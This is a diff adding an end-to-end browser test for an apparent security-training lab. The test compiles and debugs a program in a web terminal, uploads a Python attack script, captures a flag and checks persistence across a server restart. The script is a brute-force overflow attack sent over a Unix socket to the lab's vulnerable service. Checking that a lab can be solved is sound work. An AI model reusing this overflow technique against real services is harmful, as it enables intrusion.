@@ -1,0 +1,132 @@
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, expect, inject, it } from 'vitest';
+import { AxeOnce, findingsInBothThemes } from './support/axe.ts';
+import { newVisitor, openBrowser } from './support/browser.ts';
+import { createDatabase, type OwnDatabase } from './support/content-database.ts';
+import { openAs, signUp } from './support/learner.ts';
+import { type RunningServer, startServer, temporaryFolder } from './support/server.ts';
+
+/*
+ * A lab with a shell, by keyboard in a browser: compiled, looked at with the debugger, attacked over its socket, solved; and
+ * the server dies in between.
+ */
+
+const axe = new AxeOnce();
+let browser: Browser;
+let folder: { path: string; remove: () => Promise<void> };
+let database: OwnDatabase;
+let server: RunningServer;
+const start = (port?: number) =>
+  startServer({
+    dataDir: folder.path,
+    databaseUrl: database.url,
+    // The lab is for tier 2.
+    env: { POW_COST: '50', FREE_TIER: '2' },
+    ...(port ? { port } : {}),
+  });
+beforeAll(async () => {
+  [browser, database, folder] = await Promise.all([
+    openBrowser(),
+    createDatabase(inject('contentDatabase')),
+    temporaryFolder(),
+  ]);
+  server = await start();
+});
+afterAll(async () => {
+  await server?.stop();
+  await database?.drop();
+  await folder?.remove();
+});
+
+/** Sends a name that is longer than there is room for, one byte after the other, until the light takes us for its master. */
+const attack = `
+import re, socket
+
+def say(letter):
+    light = socket.socket(socket.AF_UNIX)
+    light.connect('/lamp/lamp.sock')
+    heard = b''
+    try:
+        light.sendall(letter)
+        light.shutdown(socket.SHUT_WR)
+        while more := light.recv(4096):
+            heard += more
+    except OSError:
+        pass
+    return re.search(rb'flag{[^}]+}', heard)
+
+for length in range(1, 200):
+    if found := say(b'1\\n' + b'A' * length + b'\\x07\\n'):
+        print('found', found.group().decode())
+        break
+`;
+
+/** What the terminal shows, line by line. */
+const screen = (page: Page) => page.locator('.xterm-rows').first().innerText();
+
+/** Types a line and waits until the terminal shows what it leads to. */
+async function type(page: Page, line: string, until: RegExp): Promise<string> {
+  await page.keyboard.type(`${line}\n`);
+  await expect.poll(() => screen(page)).toMatch(until);
+  return screen(page);
+}
+
+it('is compiled, debugged, attacked and solved in the browser, and outlives the server', async () => {
+  const account = await signUp(server);
+  const { page, context, errors } = await newVisitor(browser, { width: 1440, height: 900 });
+  await openAs(page, server, account, '/lab/lamplighter');
+  await page.getByRole('button', { name: 'Start lab' }).click();
+  await expect.poll(() => screen(page)).toContain('learner@lamplighter:~$');
+
+  // The terminal has the focus: whoever comes types.
+  await type(
+    page,
+    `printf 'int main(void) { return 42; }' > answer.c && gcc -o answer answer.c; ./answer; echo "says $?"`,
+    /says 42/,
+  );
+  await type(page, `gdb -batch -ex 'break take_order' -ex 'info line light_all' lamp`, /Line \d+ of "\S*lamp\.c"/);
+  await page.getByRole('tab', { name: 'Files' }).click();
+  await page.getByLabel('Files to put into your home').setInputFiles({
+    name: 'attack.py',
+    mimeType: 'text/x-python',
+    buffer: Buffer.from(attack),
+  });
+  await page.getByText('attack.py').first().waitFor();
+  await page.locator('.xterm').first().click();
+  const shown = await type(page, 'clear; python3 attack.py', /flag\{[^}]+\}/);
+  const [flag = ''] = /flag\{[^}]+\}/.exec(shown.replace(/\n/g, '')) ?? [];
+
+  // Tab belongs to the shell; F6 leaves it.
+  await page.keyboard.press('Tab');
+  expect(await page.evaluate(() => document.activeElement?.closest('.xterm') !== null)).toBe(true);
+  await page.keyboard.press('F6');
+  expect(await page.evaluate(() => document.activeElement?.closest('.xterm') ?? null)).toBeNull();
+
+  await page.getByRole('textbox', { name: 'The flag that you found' }).fill(flag);
+  await page.keyboard.press('Enter');
+  await page.getByText('1 of 3 found').waitFor();
+  expect(await findingsInBothThemes(page, axe)).toEqual([]);
+
+  // What the screen says is kept survives the server.
+  await page.locator('.xterm').first().click();
+  await type(page, 'echo kept > proof.txt; clear; ls', /proof\.txt/);
+  const saved = page.getByText(/^home saved/);
+  const before = await saved.innerText();
+  await expect.poll(() => saved.innerText()).not.toBe(before);
+  const expected = errors.length;
+  await server.kill();
+  server = await start(server.port);
+  await page.reload();
+  await page.getByText('The server was restarted.').first().waitFor();
+  await page
+    .getByRole('button', { name: /^Start/ })
+    .first()
+    .click();
+  await expect.poll(() => screen(page)).toContain('learner@lamplighter:~$');
+  await page.locator('.xterm').first().click();
+  await type(page, 'clear; cat proof.txt; ./answer; echo "still $?"', /kept\s+still 42/);
+  await page.getByText('1 of 3 found').waitFor();
+  // Those of the moments in which nothing answered aside.
+  expect(errors.slice(0, expected)).toEqual([]);
+  await context.close();
+});
